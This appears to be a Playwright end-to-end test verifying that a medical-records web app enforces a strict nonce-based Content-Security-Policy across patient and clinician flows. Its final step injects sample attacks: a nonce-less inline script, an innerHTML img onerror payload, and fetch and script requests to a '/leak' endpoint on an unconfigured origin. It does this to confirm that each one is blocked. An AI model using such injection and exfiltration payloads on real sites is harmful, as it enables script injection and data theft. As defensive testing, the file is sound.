import type { BrowserContext, Locator, Response } from '@playwright/test';
import { SPARE_ACCOUNTS } from './accounts';
import { expect, test } from './fixtures';
import { E2E_PORTS, E2E_RPC_URL } from './ports';

const PATIENT = SPARE_ACCOUNTS.cspPatient;
const CLINICIAN = SPARE_ACCOUNTS.cspClinician;
const PDF_NAME = 'discharge-summary.pdf';
const PNG_NAME = 'wound-photo.png';

// 1×1 transparent PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

/** A one-page PDF with a correct cross-reference table, so the viewer renders it instead of repairing it. */
function onePagePdf(text: string): Buffer {
  const content = `BT /F1 18 Tf 20 40 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let pdf = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = pdf.length;
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/**
 * Every CSP violation in the context's pages and frames: the `securitypolicyviolation` events (the
 * listener is installed before any page script) and Chromium's console reports, which also cover
 * frames and workers the listener can't reach.
 */
async function watchViolations(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeBinding('__chartkeyCspViolation', (_source, report: string) => {
    seen.push(report);
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { __chartkeyCspViolation(report: string): void }).__chartkeyCspViolation;
      report(`${event.effectiveDirective} blocked ${event.blockedURI}`);
    });
  });
  context.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) seen.push(`console: ${message.text()}`);
  });
  return seen;
}

/** Checks the page response's policy and returns its nonce. */
async function expectPolicy(response: Response | null): Promise<string> {
  expect(response?.status()).toBe(200);
  const headers = response?.headers() ?? {};
  const directives = new Map(
    (headers['content-security-policy'] ?? '').split(';').map((part) => {
      const [name = '', ...sources] = part.trim().split(/\s+/);
      return [name, sources] as const;
    }),
  );
  const scripts = directives.get('script-src') ?? [];
  expect(scripts).toEqual(["'self'", expect.stringMatching(/^'nonce-[A-Za-z0-9+/]{22}=='$/)]);
  // The RPC URL is the one the e2e stack set at start-up, not the build's default: read per request.
  expect(directives.get('connect-src')).toEqual(["'self'", new URL(E2E_RPC_URL).origin]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  // The headers from next.config.ts are still sent beside it.
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['referrer-policy']).toBe('no-referrer');

  const nonce = (scripts[1] ?? '').slice("'nonce-".length, -1);
  // Next.js put the nonce on every script it rendered; none was left out to be blocked.
  const html = (await response?.text()) ?? '';
  const scriptTags = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scriptTags.length).toBeGreaterThan(0);
  expect(scriptTags.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
  return nonce;
}

/** The document an iframe shows: a blob: URL of this origin once a decrypted PDF has loaded in it. */
async function frameUrl(iframe: Locator): Promise<string> {
  return (await (await iframe.elementHandle())?.contentFrame())?.url() ?? '';
}

test.use({ patientAccount: PATIENT, clinicianAccount: CLINICIAN });

test('every page runs under a strict nonce-based Content-Security-Policy that the whole flow respects', async ({ patient, clinician, request }) => {
  test.setTimeout(240_000);
  const patientViolations = await watchViolations(patient.page.context());
  const clinicianViolations = await watchViolations(clinician.page.context());
  const nonces = new Set<string>();
  const origin = `http://127.0.0.1:${E2E_PORTS.web}`;
  const ipfsOrigin = `http://127.0.0.1:${E2E_PORTS.ipfs}`;

  await test.step('API routes keep the plain security headers and get no page policy', async () => {
    const health = await request.get('/api/health');
    expect(health.headers()['content-security-policy']).toBeUndefined();
    expect(health.headers()['x-content-type-options']).toBe('nosniff');
  });

  await test.step('the clinician opens /clinician with a wallet and sets up a key', async () => {
    nonces.add(await expectPolicy(await clinician.goto()));
    await clinician.connectWallet();
    await clinician.unlock();
    await expect(clinician.sharedEmpty).toBeVisible();
    // This patient shares without being asked; keeping such shares apart is unsolicited-shares.spec's.
    await clinician.showAllSharesTogether();
  });

  await test.step('the patient connects on /, then adds a PDF and an image on /patient', async () => {
    nonces.add(await expectPolicy(await patient.page.goto('/')));
    await patient.connectWallet(/connect wallet/i);
    nonces.add(await expectPolicy(await patient.goto()));
    await patient.unlock();
    await patient.chooseFiles([
      { name: PDF_NAME, mimeType: 'application/pdf', buffer: onePagePdf('Discharged home') },
      { name: PNG_NAME, mimeType: 'image/png', buffer: PNG },
    ]);
    await expect(patient.records).toHaveCount(2, { timeout: 60_000 });
    await expect(patient.pendingUploads).toHaveCount(0);
    // A fresh nonce for every response.
    expect(nonces.size).toBe(3);
  });

  await test.step('both open inline: the image from a blob: URL, the PDF in a blob: iframe', async () => {
    await patient.openRecord(PNG_NAME);
    const image = patient.recordImage(PNG_NAME);
    await expect(image).toBeVisible();
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1);

    await patient.openRecord(PDF_NAME);
    const frame = patient.recordFrame(PDF_NAME);
    await expect(frame).toBeVisible();
    // A blocked frame shows chrome-error://chromewebdata/ instead.
    await expect.poll(() => frameUrl(frame)).toMatch(new RegExp(`^blob:${origin}/`));
  });

  await test.step('the patient shares the PDF and the clinician opens it on /clinician', async () => {
    await patient.shareRecord(PDF_NAME, CLINICIAN, '30d');
    await expect(patient.grantsOn(PDF_NAME)).toHaveCount(1);

    await expect(clinician.sharedRecord(PDF_NAME)).toHaveAttribute('data-status', 'active', { timeout: 30_000 });
    await clinician.openSharedRecord(PDF_NAME);
    const frame = clinician.sharedRecordFrame(PDF_NAME);
    await expect(frame).toBeVisible();
    await expect.poll(() => frameUrl(frame)).toMatch(new RegExp(`^blob:${origin}/`));
  });

  await test.step('nothing the app did was refused by the policy', async () => {
    // Give late reports (the PDF viewer's frame, workers) a moment to arrive.
    await patient.page.waitForTimeout(1_000);
    expect(patientViolations).toEqual([]);
    expect(clinicianViolations).toEqual([]);
  });

  await test.step('injected script does not run and decrypted data cannot be sent elsewhere', async () => {
    const outcome = await patient.page.evaluate(async (elsewhere) => {
      const w = window as unknown as { __pwned?: number; __pwnedByHandler?: number; __trusted?: number };
      const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
      // An inline script without the nonce, as an injection would add it.
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = 1';
      document.head.append(script);
      // Markup injected through innerHTML with an inline event handler.
      const div = document.createElement('div');
      div.innerHTML = '<img src="data:," onerror="window.__pwnedByHandler = 1">';
      document.body.append(div);
      // Sending data to an origin the deployment did not configure (here the IPFS node itself), by
      // fetch and in a script URL.
      const fetched = await fetch(`${elsewhere}/leak`, { method: 'POST', body: 'x' }).then(
        () => true,
        () => false,
      );
      const external = document.createElement('script');
      const loaded = new Promise<boolean>((resolve) => {
        external.onload = () => resolve(true);
        external.onerror = () => resolve(false);
      });
      external.src = `${elsewhere}/leak.js`;
      document.head.append(external);
      // Control: the same inline script with the page's nonce does run, so the checks above can fail.
      const trusted = document.createElement('script');
      trusted.nonce = document.querySelector<HTMLScriptElement>('script[nonce]')?.nonce ?? '';
      trusted.textContent = 'window.__trusted = 1';
      document.head.append(trusted);
      await settle();
      div.remove();
      return { pwned: w.__pwned ?? null, pwnedByHandler: w.__pwnedByHandler ?? null, fetched, loaded: await loaded, trusted: w.__trusted ?? null };
    }, ipfsOrigin);
    expect(outcome).toEqual({ pwned: null, pwnedByHandler: null, fetched: false, loaded: false, trusted: 1 });
    // And each refusal was reported, so the empty lists above mean nothing was refused.
    await expect
      .poll(() => patientViolations.filter((v) => !v.startsWith('console: ')).sort())
      .toEqual([
        `connect-src blocked ${ipfsOrigin}/leak`,
        'script-src-attr blocked inline',
        `script-src-elem blocked ${ipfsOrigin}/leak.js`,
        'script-src-elem blocked inline',
      ]);
  });
});
